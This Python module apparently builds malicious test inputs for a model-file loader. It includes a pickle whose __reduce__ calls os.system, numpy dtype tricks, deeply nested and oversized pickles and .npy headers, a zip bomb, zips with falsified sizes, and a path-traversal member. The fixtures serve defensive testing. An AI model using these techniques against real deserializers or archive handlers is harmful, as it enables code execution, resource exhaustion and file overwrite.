"""Made to harm: pickles and numpy's files."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
import zlib
from typing import Any

import numpy as np
import torch

HUGE = 2**40


class Runs:
    """Pickles to a call of os.system."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("touch ran",)


def pickles() -> dict[str, bytes]:
    return {
        "a shell": pickle.dumps(Runs()),
        "a shell among arrays": pickle.dumps({"v_template": Runs()}, 0),
        "a dtype that says it holds objects": _dtype_state("V8", (3, "|", None, None, None, 8, 1, 63)),
        "a dtype of fields": _dtype_state("V8", (3, "|", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 27)),
        "nested": b"\x80\x02" + b"]" * 15_000 + b"a" * 14_999 + b".",
        "a tuple of tuples": b"\x80\x02)" + b"\x85" * 19_000 + b".",
        "a long string": b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"x.",
        "a sparse matrix of terabytes": pickle.dumps({"J_regressor": _wide()}, 4),
        "a tensor that repeats one number": pickle.dumps({"f": torch.zeros(1).expand(2**29)}, 2),
        "an empty file": b"",
    }


def _dtype_state(code: str, state: tuple) -> bytes:
    class Kind:
        def __reduce__(self) -> tuple:
            return np.dtype, (code, False, True), state

    class Held:
        def __reduce__(self) -> tuple:
            from numpy._core.multiarray import _reconstruct  # type: ignore[attr-defined]

            return _reconstruct, (np.ndarray, (0,), b"b"), (1, (1,), Kind(), False, b"A" * 8)

    return pickle.dumps({"v_template": Held(), "f": Kind()}, 2)


def _wide() -> Any:
    from scipy import sparse

    return sparse.csc_matrix((np.ones(1), np.zeros(1, np.int64), np.array([0, *[1] * 100_000])), shape=(2**30, 100_000))


def _header(shape: str, kind: str = "<f8") -> bytes:
    """Of a .npy file."""
    text = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text


def npys() -> dict[str, bytes]:
    held = io.BytesIO()
    np.save(held, np.array([Runs()], dtype=object), allow_pickle=True)
    return {
        "objects": held.getvalue(),
        "terabytes": _header(f"({HUGE},)") + b"1" * 64,
        "gigabytes": _header("(200000000,)") + b"1" * 64,
        "a negative side": _header("(-1, 3)") + b"1" * 64,
        "no size": _header("(0, 4000000000)"),
        "a deep header": b"\x93NUMPY\x01\x00" + struct.pack("<H", 9000) + b"(" * 9000,
        "a structure": _header("(1,)", "|V1000000000"),
    }


def zips() -> dict[str, bytes]:
    def packed(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w", how) as stored:
            for name, data in members.items():
                stored.writestr(zipfile.ZipInfo(name), data, how)  # of no date
        return held.getvalue()

    of_npy = {f"npz: {name}": packed({"v_template.npy": data, "rgb.npy": data, "fault.npy": data, "neutral.npy": data})
              for name, data in npys().items()}  # fmt: skip
    names = ("fault.npy", "rgb.npy", "v_template.npy", "mean.npy", "neutral.npy")
    stream, size = zeros(3 * 10**8, _header(f"({3 * 10**8},)", "|u1"), -zlib.MAX_WBITS)
    bomb, lied = packed(dict.fromkeys(names, stream), zipfile.ZIP_STORED), packed({"rgb.npy": npys()["gigabytes"]})
    return {
        **of_npy,
        "a bomb": _patched(_patched(bomb, struct.pack("<H", 8), 8, 10), struct.pack("<I", size), 22, 24),
        "sizes that lie": _patched(lied, struct.pack("<II", 2**31, 2**31), 18, 20),
        "climbs out": packed({"../../x.npy": b"x"}),
    }


def _patched(data: bytes, value: bytes, local: int, central: int) -> bytes:
    """A zip's field exchanged in every member's two headers, at its offset in each."""
    patched = bytearray(data)
    for sign, offset in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        at = patched.find(sign)
        while at >= 0:
            patched[at + offset : at + offset + len(value)] = value
            at = patched.find(sign, at + 1)
    return bytes(patched)


def zeros(count: int, before: bytes = b"", window: int = zlib.MAX_WBITS) -> tuple[bytes, int]:
    """About `count` zeros after `before`, deflated at once: one packed block over and over; and how many bytes."""
    block = zlib.compressobj(9, wbits=window)
    first = block.compress(before) + block.flush(zlib.Z_FULL_FLUSH)
    many = block.compress(bytes(10**6)) + block.flush(zlib.Z_FULL_FLUSH)
    return first + many * (count // 10**6) + block.flush(), len(before) + count // 10**6 * 10**6
